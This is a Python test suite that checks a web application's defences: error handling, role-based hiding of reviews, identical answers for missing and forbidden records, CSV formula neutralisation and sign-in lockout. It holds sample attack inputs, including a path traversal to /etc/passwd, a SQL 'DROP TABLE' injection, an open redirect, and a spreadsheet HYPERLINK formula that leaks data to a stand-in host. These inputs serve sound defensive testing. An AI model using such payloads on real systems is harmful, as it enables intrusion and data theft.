"""The web application under attack (issue 21, item 9). Before: `/queue?as_of=notadate` was a
plain-text 500 without the security headers, and the next request on the connection was
reset; an analyst refused `/api/flags/{id}/reviews` read the same reviews from
`/api/flags/{id}`, the flag page and `/api/officers/{id}`; 40 wrong passwords at 8.5/s and
then the right one signed in; a denied role could tell a missing flag (404) from an existing
one (403). Sign-ins did not reach the access log.
"""

from __future__ import annotations

import http.client
import json
import re

import pytest
from fastapi.testclient import TestClient

from openeis.config import OpenEISConfig, SignInConfig
from openeis.governance import access_log, sign_in
from openeis.governance.users import get_user
from openeis.store import open_store
from openeis.web.app import SECURITY_HEADERS, create_app
from support.web_server import serving
from support.web_world import KEY, PASSWORD, build_world

pytestmark = pytest.mark.slow

SETTINGS = OpenEISConfig(sign_in=SignInConfig(address_header="X-Forwarded-For"))


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    work = tmp_path_factory.mktemp("web-attacks")
    return build_world(str(work / "web.duckdb"), work, officers=60)


@pytest.fixture(scope="module")
def client(world):
    with TestClient(create_app(world.url, KEY, SETTINGS, vault_key_file=world.vault_key_file)) as test_client:
        yield test_client


def _entries(world) -> list[access_log.Entry]:
    store = open_store(world.url)
    try:
        return access_log.entries(store)
    finally:
        store.close()


def _session_cookie(world, name: str) -> tuple[str, str]:
    store = open_store(world.url)
    try:
        secret, session = sign_in.start_session(store, get_user(store, name))
        return secret, session.csrf_token
    finally:
        store.close()


def _as(client, world, name: str) -> None:
    client.cookies.clear()
    client.cookies.set(sign_in.SESSION_COOKIE, _session_cookie(world, name)[0])


def _token(world, name: str) -> dict:
    return {"Authorization": f"Bearer {world.tokens[name]}"}


def _has_security_headers(response) -> None:
    for header, value in SECURITY_HEADERS.items():
        assert response.headers.get(header) == value, (header, response.request.url)
    assert response.headers.get("cache-control") == "no-store"


# -- bad input: 4xx pages with the headers, never a 500 --------------------------------------

BAD_PAGES = [
    "/queue?as_of=notadate", "/queue?as_of=2024-13-45", "/queue?as_of=%00", "/queue?page=abc", "/queue?page=-1",
    "/queue?page=99999999999999999999999", "/queue?descending=maybe",
    "/access-log?before=abc", "/access-log?before=999999999999999999999999", "/access-log?before=-5",
    "/access-log?outcome=bogus", "/access-log?verify=maybe", "/login?failed=maybe",
]
ODD_PAGES = [  # odd, but not invalid: whatever they answer, never a server error
    "/queue?sort=zzz", "/queue?status=zzz", "/queue?source=%3Cscript%3E", "/queue?assigned=zzz",
    "/flags/%00", "/flags/..%2F..%2Fetc%2Fpasswd", "/flags/" + "f" * 5000, "/officers/'%3B%20DROP%20TABLE%20flags",
    "/models/%E2%80%AE", "/audit?audit_id=zzz", "/login?next=//evil.example", "/no-such-page",
]
BAD_API = [
    "/api/flags?as_of=notadate", "/api/flags?limit=0", "/api/flags?limit=abc", "/api/flags?offset=-1",
    "/api/flags?status=bogus", "/api/access-log?before=0", "/api/access-log?limit=99999999999999999999",
    "/api/quarantine?limit=abc", "/api/audits?model_id=%00",
]


@pytest.mark.parametrize("path", BAD_PAGES)
def test_invalid_page_input_is_a_4xx_page_with_the_security_headers(client, world, path):
    _as(client, world, "admin")
    response = client.get(path, follow_redirects=False)
    assert 400 <= response.status_code < 500, (path, response.status_code, response.text[:300])
    assert response.headers["content-type"].startswith("text/html")
    _has_security_headers(response)
    assert "Traceback" not in response.text


@pytest.mark.parametrize("path", ODD_PAGES + BAD_API)
def test_odd_input_never_makes_a_server_error(client, world, path):
    _as(client, world, "admin")
    response = client.get(path, headers=_token(world, "admin") if path.startswith("/api") else {},
                          follow_redirects=False)
    assert response.status_code < 500, (path, response.status_code, response.text[:300])
    _has_security_headers(response)


def test_an_unexpected_error_is_a_500_page_with_the_headers(client, world, monkeypatch):
    from openeis.application import review

    def broken(*args, **kwargs):
        raise RuntimeError("something nobody foresaw")

    monkeypatch.setattr(review, "list_flags", broken)
    _as(client, world, "admin")
    response = client.get("/queue")
    assert response.status_code == 500 and response.headers["content-type"].startswith("text/html")
    assert "something nobody foresaw" not in response.text  # the server's log has it, not the page
    _has_security_headers(response)
    api = client.get("/api/flags", headers=_token(world, "admin"))
    assert api.status_code == 500 and api.json()["detail"].startswith("something went wrong")
    _has_security_headers(api)


def test_the_connection_survives_a_bad_request_and_a_server_error(world, monkeypatch):
    """On a real server (uvicorn, keep-alive): after a 422 and after a 500, the next request on
    the same connection is answered (it was reset)."""
    with serving(create_app(world.url, KEY), log_level="critical") as port:
        cookie = f"{sign_in.SESSION_COOKIE}={_session_cookie(world, 'admin')[0]}"
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)

        def get(path: str) -> http.client.HTTPResponse:
            connection.request("GET", path, headers={"Cookie": cookie})
            response = connection.getresponse()
            response.read()
            return response

        bad = get("/queue?as_of=notadate")
        first_socket = connection.sock
        assert bad.status == 422 and bad.getheader("Content-Security-Policy") == SECURITY_HEADERS["Content-Security-Policy"]
        assert get("/queue").status == 200 and connection.sock is first_socket
        from openeis.application import review

        monkeypatch.setattr(review, "list_flags", lambda *a, **k: 1 / 0)
        failed = get("/queue")
        assert failed.status == 500 and failed.getheader("X-Frame-Options") == "DENY"
        monkeypatch.undo()
        assert get("/queue").status == 200 and connection.sock is first_socket
        connection.close()


# -- reviews only where the role may read them ---------------------------------------------------

RATIONALE = "Spoke with the officer about the complaints pattern."


@pytest.fixture(scope="module")
def reviewed(world, client):
    """A decided review on the officer's own flag (unit A), by the reviewer rita."""
    response = client.post(f"/api/flags/{world.flags_a[0]}/review", headers=_token(world, "rita"),
                           json={"decision": "supervisory_conversation", "rationale": RATIONALE, "version": 1,
                                 "intervention": "conversation with the line manager"})
    assert response.status_code == 200, response.text
    return world.flags_a[0]


def test_an_analyst_reads_a_flag_but_not_the_decisions_on_it(client, world, reviewed):
    admin = client.get(f"/api/flags/{reviewed}", headers=_token(world, "admin")).json()
    assert admin["reviews"][0]["rationale"] == RATIONALE and admin["outcomes"] is not None
    analyst = client.get(f"/api/flags/{reviewed}", headers=_token(world, "ana"))
    assert analyst.status_code == 200
    assert analyst.json()["reviews"] is None and analyst.json()["outcomes"] is None
    assert RATIONALE not in analyst.text
    assert client.get(f"/api/flags/{reviewed}/reviews", headers=_token(world, "ana")).status_code == 403


def test_an_analyst_sees_no_reviews_on_the_flag_page_or_the_officer(client, world, reviewed):
    _as(client, world, "ana")
    page = client.get(f"/flags/{reviewed}")
    assert page.status_code == 200 and RATIONALE not in page.text
    officer = client.get(f"/officers/{world.officer_self}")
    assert officer.status_code == 200 and RATIONALE not in officer.text
    assert "Reviews are not shown to your role" in officer.text
    profile = client.get(f"/api/officers/{world.officer_self}", headers=_token(world, "ana"))
    assert profile.status_code == 200 and profile.json()["reviews"] is None and RATIONALE not in profile.text
    _as(client, world, "admin")
    assert RATIONALE in client.get(f"/flags/{reviewed}").text
    assert RATIONALE in client.get(f"/officers/{world.officer_self}").text
    for name in ("otto", "rita"):  # the officer themselves and the reviewer covering the unit
        assert RATIONALE in client.get(f"/api/officers/{world.officer_self}", headers=_token(world, name)).text


# -- what a role may not learn: missing and forbidden answer alike ---------------------------------

MISSING_FLAG = "f-" + "0" * 16
MISSING_OFFICER = "0" * 20


def _same_answer(first, second, known: str, missing: str) -> None:
    assert first.status_code == second.status_code
    assert first.text.replace(known, "X") == second.text.replace(missing, "X")


@pytest.mark.parametrize("name, status", [("aude", 403), ("rosa", 404), ("otto", 404)])
def test_a_flag_the_role_may_not_see_answers_as_a_missing_one(client, world, name, status):
    known = world.flags_a[1]  # unit A; not otto's own
    before = sum(e.outcome == "denied" for e in _entries(world))
    existing = client.get(f"/api/flags/{known}", headers=_token(world, name))
    missing = client.get(f"/api/flags/{MISSING_FLAG}", headers=_token(world, name))
    assert existing.status_code == status
    _same_answer(existing, missing, known, MISSING_FLAG)
    _as(client, world, name)
    _same_answer(client.get(f"/flags/{known}"), client.get(f"/flags/{MISSING_FLAG}"), known, MISSING_FLAG)
    # The refusals are in the log all the same (the auditor's twice per call: no lookup at all).
    assert sum(e.outcome == "denied" for e in _entries(world)) > before


@pytest.mark.parametrize("name, status", [("aude", 403), ("rosa", 404), ("otto", 404)])
def test_an_officer_the_role_may_not_see_answers_as_a_missing_one(client, world, name, status):
    known = world.officer_self if name != "otto" else _another_officer(world)
    existing = client.get(f"/api/officers/{known}", headers=_token(world, name))
    missing = client.get(f"/api/officers/{MISSING_OFFICER}", headers=_token(world, name))
    assert existing.status_code == status
    _same_answer(existing, missing, known, MISSING_OFFICER)


# The routes of the review queue (issue 20): a welfare prompt is a flag a conduct reader may not
# know of, a conduct flag one a welfare account may not; an officer outside a reviewer's units
# is as unknown on the records page and to reveal as on the profile.
NEW_ROUTES = {
    "welfare prompt, conduct reviewer": ("rita", "GET", lambda w: f"/api/flags/{w.welfare_flag}", None, 404),
    "welfare prompt, analyst": ("ana", "GET", lambda w: f"/api/flags/{w.welfare_flag}", None, 404),
    "conduct flag, welfare account": ("wendy", "GET", lambda w: f"/api/flags/{w.flags_a[1]}", None, 404),
    "conduct outcome, welfare account": ("wendy", "POST", lambda w: f"/api/flags/{w.flags_a[1]}/outcome",
                                         {"outcome": "completed", "note": "attack suite"}, 404),
    "amend, analyst": ("ana", "POST", lambda w: f"/api/flags/{w.flags_a[1]}/amend",
                       {"decision": "no_action", "rationale": "attack suite", "reason": "attack suite",
                        "version": 1}, 403),
    "records, reviewer of another unit": ("rosa", "GET", lambda w: f"/api/officers/{w.officer_self}/records", None,
                                          404),
    "records, auditor": ("aude", "GET", lambda w: f"/api/officers/{w.officer_self}/records", None, 403),
    "reveal, reviewer of another unit": ("rosa", "POST", lambda w: f"/api/officers/{w.officer_self}/reveal",
                                         {"reason": "attack suite: who is it?"}, 404),
    "reveal, analyst": ("ana", "POST", lambda w: f"/api/officers/{w.officer_self}/reveal",
                        {"reason": "attack suite: who is it?"}, 403),
}


@pytest.mark.parametrize("kind", list(NEW_ROUTES))
def test_the_queue_routes_answer_alike_for_missing_and_forbidden(client, world, kind):
    name, method, path_of, body, status = NEW_ROUTES[kind]
    path = path_of(world)
    known = path.split("/")[3]
    missing_id = MISSING_FLAG if path.startswith("/api/flags/") else MISSING_OFFICER
    before = sum(e.outcome == "denied" for e in _entries(world))
    existing = client.request(method, path, json=body, headers=_token(world, name))
    missing = client.request(method, path.replace(known, missing_id), json=body, headers=_token(world, name))
    assert existing.status_code == status, existing.text
    _same_answer(existing, missing, known, missing_id)
    assert sum(e.outcome == "denied" for e in _entries(world)) > before  # refused, and on the record


def test_the_queue_csv_holds_no_cell_a_spreadsheet_would_run(client, world):
    """Explanations and units come from the force's data: in the queue's CSV export each goes
    through openeis.csv_safety like every other CSV the system writes."""
    import csv
    import io

    formula = '=HYPERLINK("http://x.example/?leak="&A1,"open")'
    first = client.get("/api/flags", headers=_token(world, "admin")).json()["flags"][0]
    explanation = {**first["explanation"], "sentences": [formula, "@SUM(A1:A9)"]}
    store = open_store(world.url)
    try:
        store.execute("UPDATE flags SET explanation = ? WHERE flag_id = ?", [json.dumps(explanation), first["flag_id"]])
    finally:
        store.close()
    _as(client, world, "admin")
    response = client.get("/queue.csv")
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert ["'" + formula] == [cell for row in rows for cell in row if formula in cell]
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "@", "\t", "\r")]
    assert not [cell for row in rows for cell in row
                if cell.startswith("-") and not re.fullmatch(r"-[0-9.e-]+", cell)]  # negative numbers stay numbers


def _another_officer(world) -> str:
    store = open_store(world.url)
    try:
        return store.scalar("SELECT officer_id FROM officers WHERE officer_id <> ? ORDER BY officer_id LIMIT 1",
                            [world.officer_self])
    finally:
        store.close()


# -- sign-in: logged, throttled per name and per address -----------------------------------------

def _sign_in(client, name: str, password: str, address: str):
    client.cookies.clear()
    form = client.get("/login").text
    token = re.search(r'name="login_token" value="([^"]+)"', form).group(1)
    return client.post("/login", data={"name": name, "password": password, "login_token": token, "next": "/"},
                       headers={"X-Forwarded-For": address}, follow_redirects=False)


def _signed_in(response) -> bool:
    return response.status_code == 303 and sign_in.SESSION_COOKIE in response.cookies


def _age_attempts(world, minutes: int) -> None:
    store = open_store(world.url)
    try:
        store.execute(f"UPDATE sign_in_attempts SET attempted_at = attempted_at - INTERVAL '{minutes} minutes'")
    finally:
        store.close()


def test_every_sign_in_and_out_is_logged(client, world):
    assert _signed_in(_sign_in(client, "aude", PASSWORD, "10.0.0.1"))
    entry = _entries(world)[-1]
    assert (entry.actor, entry.role, entry.action, entry.outcome) == ("aude", "auditor", "sign_in", "allowed")
    assert json.loads(entry.records) == {"address": "10.0.0.1"}
    assert not _signed_in(_sign_in(client, "aude", "not the password", "10.0.0.1"))
    entry = _entries(world)[-1]
    assert (entry.action, entry.outcome, entry.reason) == ("sign_in", "denied", "wrong password")
    _sign_in(client, "no-such-person", PASSWORD, "10.0.0.1")
    entry = _entries(world)[-1]
    assert (entry.actor, entry.role, entry.reason) == ("no-such-person", "none", "no such account")
    signed = _sign_in(client, "aude", PASSWORD, "10.0.0.1")
    csrf = _csrf_of(world, signed.cookies[sign_in.SESSION_COOKIE])
    client.cookies.set(sign_in.SESSION_COOKIE, signed.cookies[sign_in.SESSION_COOKIE])
    assert client.post("/logout", data={"csrf_token": csrf}, follow_redirects=False).status_code == 303
    entry = _entries(world)[-1]
    assert (entry.actor, entry.action, entry.outcome) == ("aude", "sign_out", "allowed")


def _csrf_of(world, secret: str) -> str:
    store = open_store(world.url)
    try:
        return sign_in.session_for(store, secret).csrf_token
    finally:
        store.close()


def test_wrong_passwords_lock_the_name_and_then_even_the_right_one_is_refused(client, world):
    for attempt in range(5):
        response = _sign_in(client, "ravi", f"guess number {attempt}", f"10.1.0.{attempt}")
        assert response.status_code == 303 and "failed=1" in response.headers["location"]
    locked = _sign_in(client, "ravi", PASSWORD, "10.1.9.9")
    assert locked.status_code == 429 and not _signed_in(locked)
    assert 0 < int(locked.headers["retry-after"]) <= 15 * 60
    assert "Too many failed sign-ins" in locked.text
    _has_security_headers(locked)
    log = [e for e in _entries(world) if e.actor == "ravi"]
    assert [e.reason for e in log if e.action == "sign_in"][:5] == ["wrong password"] * 5
    assert [e.action for e in log][5:] == ["lock_out", "sign_in"]
    assert log[-1].outcome == "denied" and log[-1].reason.startswith("locked out: 5 failed sign-ins under this name")
    _age_attempts(world, 16)  # the window has passed
    assert _signed_in(_sign_in(client, "ravi", PASSWORD, "10.1.9.9"))


def test_a_name_no_account_has_locks_exactly_alike(client, world):
    """So that a lockout tells nobody whether a name exists."""
    for name in ("rosa", "nobody-at-all"):
        for attempt in range(5):
            _sign_in(client, name, f"guess {attempt}", f"10.2.{len(name)}.{attempt}")
    known = _sign_in(client, "rosa", PASSWORD, "10.2.9.1")
    unknown = _sign_in(client, "nobody-at-all", PASSWORD, "10.2.9.2")
    assert known.status_code == unknown.status_code == 429

    def message(response) -> str:
        return re.search(r'role="alert">([^<]+)<', response.text).group(1)

    assert message(known) == message(unknown)
    _age_attempts(world, 16)


def test_a_success_starts_the_count_again(client, world):
    for _ in range(4):
        _sign_in(client, "admin", "wrong wrong wrong", "10.3.0.1")
    assert _signed_in(_sign_in(client, "admin", PASSWORD, "10.3.0.2"))
    for _ in range(4):
        _sign_in(client, "admin", "wrong wrong wrong", "10.3.0.1")
    assert _signed_in(_sign_in(client, "admin", PASSWORD, "10.3.0.2"))
    _age_attempts(world, 16)


def test_many_names_from_one_address_lock_the_address(client, world):
    for number in range(20):
        _sign_in(client, f"sprayed-{number}", "Summer2024!", "10.4.0.66")
    locked = _sign_in(client, "ana", PASSWORD, "10.4.0.66")
    assert locked.status_code == 429 and not _signed_in(locked)
    entry = _entries(world)[-1]
    assert entry.actor == "ana" and "from this address" in entry.reason
    assert any(e.action == "lock_out" and "from this address" in e.reason for e in _entries(world))
    assert _signed_in(_sign_in(client, "ana", PASSWORD, "10.4.0.67"))  # another address is not held back
    _age_attempts(world, 16)
